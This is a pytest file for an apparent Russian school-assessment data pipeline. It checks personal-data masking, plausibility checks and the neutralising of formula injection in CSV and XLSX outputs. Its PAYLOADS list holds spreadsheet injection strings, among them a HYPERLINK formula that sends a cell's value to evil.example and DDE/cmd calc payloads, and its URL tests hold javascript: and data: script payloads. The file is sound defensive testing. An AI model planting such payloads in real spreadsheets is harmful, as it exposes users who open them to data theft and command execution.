"""Issue 17 (personal data, formula injection, implausible data) and issue 18 item 1 (empty
optional tables): bad input gives an exit code and a message naming file, row, column and
value; nothing is written; no planted name or formula reaches any output file."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from conftest import tiny_tables, write_tables

from shnor_lib import pipeline
from shnor_lib.cli import main
from shnor_lib.errors import ValidationError
from shnor_lib.io import ingest, personal, plausibility, publish


def _raw(root: Path) -> Path:
    return root / "data" / "raw" / "tiny"


def _problems(params) -> list:
    with pytest.raises(ValidationError) as info:
        ingest.ingest(params)
    return info.value.problems


def _output_texts(params) -> dict[Path, str]:
    """Every file under data/processed/<m> and outputs/<m> as text: parquet and xlsx opened
    (their cells), everything else decoded."""
    out: dict[Path, str] = {}
    folders = [params.processed_dir().parent, params.output_dir().parent]
    for folder in folders:
        for path in sorted(folder.rglob("*")):
            if not path.is_file():
                continue
            if path.suffix == ".parquet":
                frame = pd.read_parquet(path)
                out[path] = " ".join(map(str, frame.columns)) + "\n" + frame.to_csv(index=False)
            elif path.suffix == ".xlsx":
                wb = openpyxl.load_workbook(path)
                out[path] = "\n".join(
                    str(c.value) for ws in wb for row in ws.iter_rows() for c in row
                )
                with zipfile.ZipFile(path) as zf:  # the raw XML too
                    out[path] += "\n".join(zf.read(n).decode("utf-8") for n in zf.namelist())
            else:
                out[path] = path.read_bytes().decode("utf-8", errors="replace")
    return out


def _assert_absent(params, planted: list[str]) -> None:
    texts = _output_texts(params)
    assert texts, "nothing was written"
    for path, text in texts.items():
        for word in planted:
            assert word not in text, (word, path)


def _snapshot(params) -> dict[Path, bytes]:
    folders = [params.processed_dir(), params.output_dir()]
    return {p: p.read_bytes() for f in folders if f.exists() for p in f.rglob("*") if p.is_file()}


def _cli_refuses(root, params, monkeypatch, capsys) -> str:
    """compute after a good run: exit 2, message without a traceback, outputs unchanged."""
    monkeypatch.chdir(root)
    before = _snapshot(params)
    capsys.readouterr()
    assert main(["compute", "--params", "params/tiny.yml"]) == 2
    err = capsys.readouterr().err
    assert "Traceback" not in err and "Внутренняя ошибка" not in err
    assert _snapshot(params) == before
    leftovers = [p.name for p in params.output_dir().parent.rglob(".*")]
    assert leftovers == []
    return err


@pytest.fixture
def computed(tiny_project, monkeypatch):
    """tiny_project with a good compute already done (the «previous outputs»)."""
    root, params = tiny_project
    monkeypatch.chdir(root)
    assert main(["compute", "--params", "params/tiny.yml"]) == 0
    return root, params


# Personal data where a code is expected ----------------------------------------------------

NAMES_AS_IDS = [
    ("Иванов Иван Иванович", "Иванов"),
    ("Петрова А.С.", "Петрова"),
    ("Петрова А. С.", "Петрова"),
    ("А.С. Петрова", "Петрова"),
    ("Ivanov Ivan", "Ivanov"),
    ("Сидоренко", "Сидоренко"),
    ("Мария Петровна", "Мария"),
    ("Анна-Мария Кузнецова", "Кузнецова"),
    ("Кузнецов-Лебедев Олег", "Лебедев"),
    ("12.03.2012", "12.03.2012"),
    ("2012-03-12", "2012-03-12"),
    ("+7 (918) 123-45-67", "123-45-67"),
    ("89181234567", "89181234567"),
    ("+79181234567", "9181234567"),
    ("ivan.petrov@mail.ru", "ivan.petrov"),
    ("123-456-789 01", "123-456-789"),
    ("45 12 345678", "345678"),
]


@pytest.mark.parametrize(("value", "planted"), NAMES_AS_IDS)
def test_student_id_that_is_personal_data_is_an_error_with_masked_value(
    tiny_project, value, planted
):
    root, params = tiny_project
    vpr = tiny_tables()["vpr"]
    vpr.loc[[4, 5], "student_id"] = value  # rows 6 and 7 (one pupil, two subjects)
    write_tables(_raw(root), {"vpr": vpr})
    problems = [p for p in _problems(params) if p.column == "student_id"]
    assert [p.row for p in problems] == [6, 7]
    assert all(p.file.endswith("vpr.csv") for p in problems)
    assert "обезличенный код" in problems[0].expected_ru
    text = ValidationError(problems).format()
    assert planted not in text and value not in text  # shown masked: «Ив*** И*** И***»
    assert "***" in text or "*" in str(problems[0].value)


@pytest.mark.parametrize(("value", "planted"), NAMES_AS_IDS[:6])
def test_teacher_and_gia_ids_that_are_names_are_errors(tiny_project, value, planted):
    root, params = tiny_project
    teachers = pd.DataFrame(
        {
            "year": [2024, 2024],
            "school_id": ["100001", "100002"],
            "teacher_id": ["T1", value],
            "expert_score": [60, 70],
        }
    )
    gia = tiny_tables()["gia"]
    gia.loc[3, "student_id"] = value
    write_tables(_raw(root), {"teachers": teachers, "gia": gia})
    got = {(Path(p.file).name, p.row, p.column) for p in _problems(params)}
    assert ("teachers.csv", 3, "teacher_id") in got and ("gia.csv", 5, "student_id") in got


@pytest.mark.parametrize("code", ["S01", "G1", "230101", "ДК-2024-01", "7f3a9c2e", "A-17", "0123"])
def test_codes_are_not_mistaken_for_personal_data(code):
    assert personal.personal_kind(code) is None


def test_personal_id_through_cli_exits_2_and_keeps_previous_outputs(computed, monkeypatch, capsys):
    root, params = computed
    vpr = tiny_tables()["vpr"]
    vpr.loc[0, "student_id"] = "Смирнова Ольга Викторовна"
    write_tables(_raw(root), {"vpr": vpr})
    err = _cli_refuses(root, params, monkeypatch, capsys)
    assert "vpr.csv" in err and "строка 2" in err and "student_id" in err
    assert "Смирнова" not in err and "Ольга" not in err and "См***" in err


@pytest.mark.parametrize("phone", ["89181234567", "79181234567", "9181234567", "88614841234"])
def test_phone_number_in_school_stats_is_an_error(tiny_project, phone):
    root, params = tiny_project
    stats = pd.DataFrame(
        {
            "school_id": ["100001", "100002"],
            "year": [2024, 2024],
            "pupils_total": [500, 120],
            "contact": [12, phone],
        }
    )
    write_tables(_raw(root), {"school_stats": stats})
    problems = [p for p in _problems(params) if p.column == "contact"]
    assert [p.row for p in problems] == [3] and "телефона" in problems[0].expected_ru
    assert phone[2:-2] not in str(problems[0].value)


def test_formatted_phone_in_school_stats_is_refused(tiny_project):
    root, params = tiny_project
    stats = pd.DataFrame(
        {"school_id": ["100001"], "year": [2024], "contact": ["+7 (918) 123-45-67"]}
    )
    write_tables(_raw(root), {"school_stats": stats})
    assert [p.row for p in _problems(params) if p.column == "contact"] == [2]


RESPONSIBLE = [
    ("Иванов Иван Иванович", ["Иванов", "Иван"]),
    ("Петрова А.С., методист МКУ ИМЦ", ["Петрова"]),
    ("методист Петрова Анна Сергеевна", ["Петрова", "Сергеевна"]),
    ("Ivan Petrov", ["Petrov"]),
    ("Сидоренко", ["Сидоренко"]),
    ("УО (Кузнецов К.К., тел. 8 (86148) 4-12-34)", ["Кузнецов", "4-12-34"]),
    ("МКУ ИМЦ, ivanova@imc.ru", ["ivanova"]),
]


def _roadmap(responsible: list[str]) -> pd.DataFrame:
    n = len(responsible)
    return pd.DataFrame(
        {
            "event_id": [f"ДК-{i + 1}" for i in range(n)],
            "title": [f"Семинар {i + 1}" for i in range(n)],
            "due": ["2024-03-01"] * n,
            "responsible": responsible,
            "done": ["2024-02-20"] * n,
        }
    )


def test_names_in_roadmap_responsible_are_hidden_and_never_written(computed):
    root, params = computed
    values = [v for v, _ in RESPONSIBLE] + ["ГБОУ ИРО", "главный специалист УО"]
    write_tables(_raw(root), {"roadmap": _roadmap(values)})
    result = ingest.run(params)
    kept = result.tables["roadmap"]["responsible"].tolist()
    assert kept[-2:] == ["ГБОУ ИРО", "главный специалист УО"]  # positions stay
    assert "методист МКУ ИМЦ" in kept[1] and "(ФИО скрыто)" in kept[1]
    warning = next(w for w in result.warnings if "Ответственный" in w)
    assert "roadmap.csv" in warning and "строки 2, 3, 4, 5, 6, 7, 8" in warning
    pipeline.compute(params)
    _assert_absent(params, [w for _, words in RESPONSIBLE for w in words])


def test_header_that_is_a_name_is_dropped_and_never_echoed(computed):
    root, params = computed
    vpr = tiny_tables()["vpr"].assign(**{"Иванов Иван Иванович": 1, "Ivan Petrov": 2})
    stats = pd.DataFrame(
        {
            "school_id": ["100001", "100002"],
            "year": [2024, 2024],
            "pupils_total": [500, 120],
            "Olga Smirnova": [3, 4],  # a Latin header is taken as a count name by default
        }
    )
    write_tables(_raw(root), {"vpr": vpr, "school_stats": stats})
    result = ingest.run(params)
    assert "olga_smirnova" not in result.tables["school_stats"].columns
    assert any("похожим на ФИО" in w for w in result.warnings)
    pipeline.compute(params)
    _assert_absent(params, ["Иванов", "Ivan", "Petrov", "Olga", "Smirnova", "smirnova"])


def test_personal_data_planted_everywhere_never_reaches_processed_or_outputs(computed):
    """The existing personal-data test, extended: personal columns, names in values that
    are refused, names where positions belong, a name as a header."""
    root, params = computed
    vpr = tiny_tables()["vpr"]
    vpr.insert(3, "ФИО", "Кузьмина Дарья Олеговна")
    vpr.insert(4, "Дата рождения", "05.05.2013")
    vpr.insert(5, "Телефон родителя", "+7 918 555-44-33")
    vpr.insert(6, "СНИЛС", "123-456-789 01")
    vpr["Кузьмина Дарья"] = 1
    write_tables(
        _raw(root),
        {"vpr": vpr, "roadmap": _roadmap(["Кузьмина Д.О.", "МКУ ИМЦ"])},
    )
    ingest.run(params)
    pipeline.compute(params)
    _assert_absent(params, ["Кузьмина", "Дарья", "05.05.2013", "555-44-33", "123-456-789"])


# Formula injection -------------------------------------------------------------------------

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Нажмите")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "=1+1",
    "'=1+1",
    '=DDE("cmd";"/C calc";"x")',
    "+7 (918) УО",
    "-",
]


def _formula_cells_in_csv(path: Path) -> list[str]:
    bad = []
    with open(path, encoding="utf-8", newline="") as fh:
        for row in csv.reader(fh):
            for cell in row:
                if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
                    try:
                        float(cell)
                    except ValueError:
                        bad.append(cell)
    return bad


def test_formula_like_names_and_titles_are_inert_in_csv_and_xlsx(computed):
    root, params = computed
    t = tiny_tables()
    schools = t["schools"]
    schools["school_name"] = PAYLOADS[:3]
    events = _roadmap(["МКУ ИМЦ"] * len(PAYLOADS))
    events["title"] = PAYLOADS
    events["event_id"] = [f"=E{i}" if i % 2 else f"@E{i}" for i in range(len(PAYLOADS))]
    events["done"] = None  # all overdue: the titles reach roadmap_overdue.csv
    write_tables(_raw(root), {"schools": schools, "roadmap": events})
    ingest.run(params)
    tables_dir = pipeline.compute(params)
    csvs = sorted(tables_dir.glob("*.csv"))
    assert csvs
    for path in csvs:
        assert _formula_cells_in_csv(path) == [], path
    published = publish.read_csv(tables_dir / "schools.csv")
    assert published["school_name"].tolist() == PAYLOADS[:3]  # read back exactly
    overdue = publish.read_csv(tables_dir / "roadmap_overdue.csv")
    assert set(overdue["title"]) <= set(PAYLOADS) and len(overdue)
    wb = openpyxl.load_workbook(params.output_dir() / "tables.xlsx")
    cells = [c for ws in wb for row in ws.iter_rows() for c in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    strings = {c.value for c in cells if c.data_type == "s"}
    assert set(PAYLOADS[:3]) <= strings  # written as text, not lost
    with zipfile.ZipFile(params.output_dir() / "tables.xlsx") as zf:
        xml = "".join(zf.read(n).decode() for n in zf.namelist() if n.startswith("xl/work"))
    assert "<f>" not in xml and "<f " not in xml


def test_write_csv_neutralises_text_but_keeps_numbers(tmp_path):
    frame = pd.DataFrame(
        {
            "name": ["=1+1", "-2+3", "+7", "-5", "@x", "ok", "'=x", None, "-1,5", "\r=1", "\t@"],
            "value": [-1.5, -2.0, 0.0, 3.0, float("nan"), -0.001, 1e-9, 2.0, -7.0, 1.0, 1.0],
            "n": pd.array([-1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11], dtype="Int64"),
        }
    )
    path = tmp_path / "t.csv"
    publish.write_csv(frame, path)
    rows = list(csv.reader(io.StringIO(path.read_bytes().decode("utf-8"), newline="")))
    first = [r[0] for r in rows[1:]]
    assert first == ["'=1+1", "'-2+3", "+7", "-5", "'@x", "ok", "''=x", "", "-1,5", "'\n=1", "'\t@"]
    assert [r[1] for r in rows[1:3]] == ["-1.5", "-2"] and rows[1][2] == "-1"
    back = publish.read_csv(path)
    assert back["name"].tolist()[:7] == ["=1+1", "-2+3", "+7", "-5", "@x", "ok", "'=x"]
    assert back["value"].iloc[0] == -1.5


# Implausible data --------------------------------------------------------------------------


def _vpr_on_scale() -> pd.DataFrame:
    """tiny vpr with the ВПР 2024 scales' maxima (grade 4 and 5, Русский язык, Математика)
    and marks that agree with them."""
    vpr = tiny_tables()["vpr"]
    maxima = {(4, "Русский язык"): 38, (4, "Математика"): 20}
    maxima |= {(5, "Русский язык"): 45, (5, "Математика"): 20}
    cuts = {(4, "Русский язык"): (14, 24, 33), (4, "Математика"): (6, 10, 14)}
    cuts |= {(5, "Русский язык"): (18, 29, 39), (5, "Математика"): (7, 11, 15)}
    vpr["max_score"] = [maxima[(g, s)] for g, s in zip(vpr["grade"], vpr["subject"], strict=True)]
    scores = []
    for g, s, m in zip(vpr["grade"], vpr["subject"], vpr["mark"], strict=True):
        c3, c4, c5 = cuts[(g, s)]
        scores.append({2: c3 - 1, 3: c3, 4: c4, 5: c5}[m])
    vpr["primary_score"] = scores
    return vpr


def test_marks_agreeing_with_the_scale_pass(tiny_project):
    root, params = tiny_project
    write_tables(_raw(root), {"vpr": _vpr_on_scale()})
    assert len(ingest.ingest(params).tables["vpr"]) == 48


@pytest.mark.parametrize(
    ("row", "mark", "score"), [(0, 2, 30), (1, 5, 3), (30, 4, 14), (47, 3, 20)]
)
def test_mark_contradicting_the_scale_is_an_error(tiny_project, row, mark, score):
    root, params = tiny_project
    vpr = _vpr_on_scale()
    vpr.loc[row, ["mark", "primary_score"]] = [mark, score]
    write_tables(_raw(root), {"vpr": vpr})
    problems = [p for p in _problems(params) if p.column == "mark"]
    assert [(p.row, p.value) for p in problems] == [(row + 2, mark)]
    assert "шкале перевода ВПР" in problems[0].expected_ru
    assert problems[0].file.endswith("vpr.csv")


def test_unknown_scale_is_not_checked(tiny_project):
    root, params = tiny_project
    vpr = _vpr_on_scale()
    vpr.loc[vpr["grade"] == 5, "max_score"] = 50  # another variant: no known scale
    vpr.loc[vpr["grade"] == 5, "mark"] = 5
    write_tables(_raw(root), {"vpr": vpr})
    ingest.ingest(params)


def test_max_score_differing_within_a_test_is_an_error(tiny_project):
    root, params = tiny_project
    vpr = tiny_tables()["vpr"]
    vpr.loc[6, "max_score"] = 31  # 2023, grade 5, Русский язык: 30 elsewhere
    write_tables(_raw(root), {"vpr": vpr})
    problems = [p for p in _problems(params) if p.column == "max_score"]
    assert [(p.row, p.value) for p in problems] == [(8, 31.0)]
    assert "один максимальный балл" in problems[0].expected_ru


def test_max_score_differing_across_files_names_the_odd_file(tiny_project):
    root, params = tiny_project
    vpr = tiny_tables()["vpr"]
    (_raw(root) / "vpr.csv").unlink()
    vpr[vpr["school_id"] != "100002"].to_csv(_raw(root) / "vpr_a.csv", index=False)
    other = vpr[vpr["school_id"] == "100002"].copy()
    other["max_score"] = 25
    other.to_csv(_raw(root) / "vpr_b.csv", index=False)
    problems = [p for p in _problems(params) if p.column == "max_score"]
    assert problems and all(p.file.endswith("vpr_b.csv") for p in problems)


@pytest.mark.parametrize(
    ("grade", "subject"),
    [
        (4, "История"),
        (5, "Физика"),
        (4, "Обществознание"),
        (7, "Химия"),
        (6, "Физика"),
        (8, "Окружающий мир"),
        (5, "Обществознание"),
        (6, "Информатика"),
    ],
)
def test_subject_impossible_in_that_grade(tiny_project, grade, subject):
    root, params = tiny_project
    vpr = tiny_tables()["vpr"]
    vpr.loc[vpr["school_id"] == "100001", "grade"] = grade
    vpr.loc[vpr.index[0], "subject"] = subject  # row 2 (school 100001)
    write_tables(_raw(root), {"vpr": vpr})
    problems = [p for p in _problems(params) if p.column == "subject"]
    assert [(p.row, p.value) for p in problems] == [(2, subject)]
    assert f"в {grade} классе" in problems[0].expected_ru


def test_more_vpr_participants_than_pupils(tiny_project):
    root, params = tiny_project
    ctx = tiny_tables()["context"]
    ctx.loc[5, ["students_total", "low_income"]] = [3, 1]  # 100003 in 2024: 4 pupils wrote ВПР
    write_tables(_raw(root), {"context": ctx})
    problems = [p for p in _problems(params) if p.column == "student_id"]
    assert len(problems) == 2 and all(p.value == 4 for p in problems)  # two subjects
    assert all("context.csv, строка 7" in p.expected_ru for p in problems)
    assert problems[0].file.endswith("vpr.csv")


def test_numerator_above_denominator_is_an_error_not_a_crash(computed, monkeypatch, capsys):
    root, params = computed
    stats = pd.DataFrame(
        {
            "school_id": ["100001", "100002", "100003"],
            "year": [2024] * 3,
            "g9_certificate_awarded": [70, 90, 5],
            "g9_graduates": [80, 80, 5],
            "pupils_fg_assessed": [10, 10, 41],
            "pupils_total": [500, 120, 40],
        }
    )
    write_tables(_raw(root), {"school_stats": stats})
    err = _cli_refuses(root, params, monkeypatch, capsys)
    assert "school_stats.csv" in err and "строка 3" in err and "g9_certificate_awarded" in err
    assert "строка 4" in err and "pupils_fg_assessed" in err and "знаменателя" in err


@pytest.mark.parametrize(
    "subject", ["Математика (профильный уровень)", "профильная математика", "Математика базовая"]
)
def test_math_levels_in_oge_are_an_error(tiny_project, subject):
    root, params = tiny_project
    gia = tiny_tables()["gia"]
    gia.loc[2, "subject"] = subject
    write_tables(_raw(root), {"gia": gia})
    problems = [p for p in _problems(params) if p.column == "subject"]
    assert [p.row for p in problems] == [4] and "только в ЕГЭ" in problems[0].expected_ru


@pytest.mark.parametrize(
    "url",
    [
        "не опубликовано",
        "www.uo.ru/page",
        "javascript:alert(1)",
        "ftp://uo.ru/a",
        "http://",
        "https://",
        "http:/uo.ru",
        "https://localhost",
        "https://uo .ru/a",
        "см. сайт",
        "data:text/html,<script>alert(1)</script>",
        "https://uo.ru/a; есть",
    ],
)
def test_garbage_roadmap_urls_are_errors(tiny_project, url):
    root, params = tiny_project
    rm = _roadmap(["МКУ ИМЦ", "УО"])
    rm["published_url"] = ["https://uo-demo.ru/a.html", url]
    write_tables(_raw(root), {"roadmap": rm})
    problems = [p for p in _problems(params) if p.column == "published_url"]
    assert [(p.row, p.value) for p in problems] == [(3, url)]


@pytest.mark.parametrize(
    "url",
    [
        "https://uo-demo.ru/shnor/2024/event-01.html",
        "http://school5.ru",
        "https://сайт.рф/x",
        "https://a.ru/1 https://b.ru/2",
        "https://uo.ru/?id=5#top",
    ],
)
def test_good_roadmap_urls_pass(url):
    assert plausibility.url_ok(url)


@pytest.mark.parametrize(
    "copy_name",
    [
        "vpr (копия).csv",
        "vpr - copy.csv",
        "vpr(1).csv",
        "vpr_копия.csv",
        "Копия vpr.csv",
        "vpr - Копия (2).csv",
        "vpr copy.csv",
        "vpr_copy.csv",
    ],
)
def test_stray_copy_beside_the_original_is_set_aside(tiny_project, copy_name):
    root, params = tiny_project
    raw = _raw(root)
    vpr = tiny_tables()["vpr"]
    edited = vpr.copy()
    edited["student_id"] = edited["student_id"] + "x"  # not identical: would add rows
    edited.to_csv(raw / copy_name, index=False)
    result = ingest.ingest(params)
    assert len(result.tables["vpr"]) == len(vpr)
    warning = [w for w in result.warnings if copy_name in w]
    assert len(warning) == 1 and "копию файла" in warning[0] and "vpr.csv" in warning[0]


def test_exact_duplicate_file_is_set_aside(tiny_project):
    root, params = tiny_project
    raw = _raw(root)
    (raw / "vpr_2024.csv").write_bytes((raw / "vpr.csv").read_bytes())
    result = ingest.ingest(params)
    assert len(result.tables["vpr"]) == len(tiny_tables()["vpr"])
    assert any("vpr_2024.csv" in w and "совпадает содержимое" in w for w in result.warnings)
    assert [s.file for s in result.sources if s.table == "vpr"] == ["data/raw/tiny/vpr.csv"]


def test_stray_copy_rules():
    names = [
        "vpr.csv",
        "vpr (копия).csv",
        "vpr_2023.csv",
        "vpr_2024.csv",
        "gia(1).xlsx",
        "schools.csv",
        "vpr 2024.csv",
        "vpr_2023 - copy.csv",
    ]
    got = {(c.name, o.name) for c, o in plausibility.stray_copy([Path("/d") / n for n in names])}
    assert got == {("vpr (копия).csv", "vpr.csv"), ("vpr_2023 - copy.csv", "vpr_2023.csv")}


# Empty optional tables (issue 18, item 1) -----------------------------------------------------

EMPTY_CASES = {
    "rosobrnadzor": "year,school_id,procedure,grade,subject\n",
    "rosobrnadzor_ru": "Год;Код ОО;Процедура;Класс;Предмет\r\n",
    "rosobrnadzor_blank": "",
    "roadmap": "event_id,title,level,form,due,responsible,done,published_url\n",
    "teachers": "year,school_id,teacher_id,subject,expert_score,test_score\n",
    "school_stats": "school_id,year\n",
}


@pytest.mark.parametrize("case", sorted(EMPTY_CASES))
def test_empty_optional_table_is_meaningful_and_said(computed, monkeypatch, capsys, case):
    root, params = computed
    name = case.split("_ru")[0].split("_blank")[0]
    (_raw(root) / f"{name}.csv").write_text(EMPTY_CASES[case], "utf-8")
    capsys.readouterr()
    assert main(["compute", "--params", "params/tiny.yml"]) == 0, capsys.readouterr().err
    manifest = json.loads((params.output_dir() / "results.json").read_text("utf-8"))
    said = [n["text_ru"] for n in manifest["notes"] if f"{name}.csv" in n["text_ru"]]
    assert len(said) == 1
    expected = {
        "rosobrnadzor": "в перечне Рособрнадзора нет ОО муниципалитета",
        "roadmap": "нет мероприятий",
        "teachers": "диагностика педагогов не проводилась",
        "school_stats": "статистика ОО не представлена",
    }[name]
    assert expected in said[0]
    from shnor_lib.report.sections import data_quality as views_data_quality

    assert any(
        expected in w for w in views_data_quality.data_warnings(pipeline.load_results(params))
    )


def test_empty_federal_list_as_an_empty_sheet(computed, monkeypatch, capsys):
    root, params = computed
    wb = openpyxl.Workbook()
    wb.save(_raw(root) / "rosobrnadzor.xlsx")
    assert main(["compute", "--params", "params/tiny.yml"]) == 0
    manifest = json.loads((params.output_dir() / "results.json").read_text("utf-8"))
    assert any("нет ОО муниципалитета" in n["text_ru"] for n in manifest["notes"])


def test_empty_required_table_and_wrong_header_stay_errors(tiny_project):
    root, params = tiny_project
    raw = _raw(root)
    (raw / "vpr.csv").write_text("year,school_id,student_id,grade,subject\n", "utf-8")
    (raw / "rosobrnadzor.csv").write_text("a,b,c\n", "utf-8")
    problems = _problems(params)
    assert any(p.file.endswith("vpr.csv") and "непустая" in p.expected_ru for p in problems)
    assert any(
        p.file.endswith("rosobrnadzor.csv") and p.row == 1 and "«school_id»" in p.expected_ru
        for p in problems
    )


@pytest.mark.parametrize(
    "value",
    [
        "ИВАНОВ И.И.",
        "иванов иван иванович",
        "ИВАНОВ ИВАН ИВАНОВИЧ",
        "ivanov ivan",
        "петрова анна",
        "Иванов Иван 5А",
        "S01 (Петров П.П.)",
        "ученик 12.03.2012",
        "код 7, тел. +7 918 123-45-67",
        "Ли Вэй",
    ],
)
def test_names_in_any_case_or_inside_a_code_are_found_in_id_columns(value):
    assert personal.personal_kind(value) is not None


def test_random_codes_are_not_personal_data():
    """Pseudonymous codes as exporters make them (letters and digits, hashes, uuids): none
    is taken for a name or a phone."""
    import random
    import string
    import uuid

    rng = random.Random(7)
    codes = [
        "".join(rng.choices(string.ascii_uppercase + string.digits, k=11)) for _ in range(3000)
    ]
    codes += ["".join(rng.choices(string.ascii_letters, k=9)) for _ in range(3000)]
    codes += [uuid.UUID(int=rng.getrandbits(128)).hex[:16] for _ in range(3000)]
    codes += [str(uuid.UUID(int=rng.getrandbits(128))) for _ in range(3000)]
    codes += [str(rng.randint(10**5, 10**10 - 1)) for _ in range(3000)]
    codes += [f"ДК-{rng.randint(2000, 2030)}-{rng.randint(1, 99):02d}" for _ in range(300)]
    assert [c for c in codes if personal.personal_kind(c)] == []


@pytest.mark.parametrize(
    "position",
    [
        "ГБОУ ИРО",
        "МКУ ИМЦ",
        "УО",
        "главный специалист УО",
        "Заместитель Главы",
        "Начальник Управления образования",
        "Руководители ШНОР",
        "Школы-лидеры",
        "методист",
    ],
)
def test_positions_in_responsible_are_kept(position):
    assert personal.hide_names(position) == position


def test_names_in_roadmap_titles_are_hidden_titles_kept(tiny_project):
    root, params = tiny_project
    rm = _roadmap(["УО", "УО"])
    rm["title"] = ["Семинар Петровой А.С. для ШНОР", "Консультация (тел. 8 (86148) 4-12-34)"]
    write_tables(_raw(root), {"roadmap": rm})
    got = ingest.ingest(params).tables["roadmap"]["title"].tolist()
    assert got == ["Семинар (ФИО скрыто) для ШНОР", "Консультация (тел. (контакт скрыт))"]


def test_phone_number_in_a_context_count_is_an_error(tiny_project):
    root, params = tiny_project
    ctx = tiny_tables()["context"].assign(computers=[10, 20, 30, 40, 50, 89181234567])
    write_tables(_raw(root), {"context": ctx})
    problems = [p for p in _problems(params) if p.column == "computers"]
    assert [p.row for p in problems] == [7] and "телефона" in problems[0].expected_ru


def test_demo_codes_pass_the_personal_checks(tmp_path):
    """The synthetic demo (40 schools, every table) has no value taken for personal data."""
    from shnor_lib.config import load_params
    from shnor_lib.demo import synth

    synth.generate(tmp_path / "data" / "raw" / "demo", seed=20240904)
    (tmp_path / "params").mkdir()
    (tmp_path / "params" / "demo.yml").write_text("municipality: demo\nyear: 2024\n", "utf-8")
    result = ingest.ingest(load_params(tmp_path / "params" / "demo.yml"))
    assert result.tables["vpr"]["student_id"].notna().all()


def test_more_gia_participants_than_pupils(tiny_project):
    root, params = tiny_project
    ctx = tiny_tables()["context"]
    ctx.loc[4, ["students_total", "low_income"]] = [1, 1]  # 100002 in 2024: 2 took ОГЭ math
    write_tables(_raw(root), {"context": ctx})
    problems = [p for p in _problems(params) if p.file.endswith("gia.csv")]
    assert [(p.column, p.value) for p in problems] == [("student_id", 2)]
    assert "ОГЭ (Математика)" in problems[0].expected_ru


def test_text_from_inputs_is_never_mathtext():
    """A school name such as «$\\undefinedmacro{x}$» is drawn as written: matplotlib's
    mathtext parser would raise on it (and interpret any «$…$») if it were enabled."""
    import matplotlib.pyplot as plt

    from shnor_lib.report import display

    display.setup()
    name = r"МБОУ «СОШ $\undefinedmacro{x}$ № 1»"
    fig, ax = plt.subplots()
    ax.barh([name], [1.0])
    ax.set_title(name)
    html = str(display.figure(fig, alt="ИОР школы", format="svg"))
    assert "data:image/svg+xml" in html
